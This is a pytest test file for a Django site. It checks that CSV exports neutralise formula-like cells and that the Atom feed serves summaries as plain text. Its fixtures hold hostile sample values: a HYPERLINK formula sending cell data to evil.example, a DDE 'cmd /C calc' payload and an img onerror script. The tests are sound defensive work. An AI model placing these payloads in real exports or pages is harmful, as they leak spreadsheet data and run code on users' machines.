@@ -1,0 +1,62 @@
+"""Exports carry submitters' text: a spreadsheet must not run it, a feed reader must not render
+it as HTML."""
+
+import csv
+import io
+import xml.etree.ElementTree as ET
+
+import pytest
+
+from hub.models import Objective
+
+from ..factories import make_practice
+
+ATOM = "{http://www.w3.org/2005/Atom}"
+PAYLOADS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "summary": "<img src=x onerror=alert(1)> and some text",
+    "implementing_organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "partners": "+1+1",
+}
+
+
+@pytest.fixture
+def hostile(practice_indexes, taxonomy):
+    objective = Objective.objects.get(number=1, locale__language_code="en")
+    make_practice(practice_indexes["en"], PAYLOADS["title"], [objective],
+                  summary=PAYLOADS["summary"],
+                  implementing_organisation=PAYLOADS["implementing_organisation"],
+                  partners=PAYLOADS["partners"])
+    make_practice(practice_indexes["en"], "-2+3 a practice", [objective], partners="\tTabbed",
+                  implementing_organisation="\rReturn", summary="Plain")
+
+
+@pytest.mark.django_db
+def test_csv_cells_that_look_like_formulas_are_neutralised(client, hostile):
+    body = client.get("/en/practices/", {"format": "csv"}).content.decode("utf-8-sig")
+    rows = {row["url"]: row for row in csv.DictReader(io.StringIO(body))}
+    cells = [value for row in rows.values() for value in row.values()]
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    titles = sorted(row["title"] for row in rows.values())
+    assert titles == ["'-2+3 a practice", "'" + PAYLOADS["title"]]
+    assert "'" + PAYLOADS["implementing_organisation"] in cells
+    assert "'+1+1" in cells and "'\tTabbed" in cells and "'\rReturn" in cells
+    assert "Plain" in cells  # ordinary text is unchanged
+    # JSON is data, not a spreadsheet: unchanged there.
+    data = client.get("/en/practices/", {"format": "json"}).json()
+    assert PAYLOADS["title"] in [row["title"] for row in data["results"]]
+
+
+@pytest.mark.django_db
+def test_feed_sends_summaries_as_text(client, hostile):
+    response = client.get("/en/practices/feed/")
+    assert response.status_code == 200
+    feed = ET.fromstring(response.content)
+    summaries = {e.find(f"{ATOM}title").text: e.find(f"{ATOM}summary")
+                 for e in feed.findall(f"{ATOM}entry")}
+    summary = summaries[PAYLOADS["title"]]
+    assert summary.get("type") == "text"
+    # One level of XML escaping; read as text, it is exactly what was typed.
+    assert summary.text == PAYLOADS["summary"]
+    assert 'type="html"' not in response.content.decode()
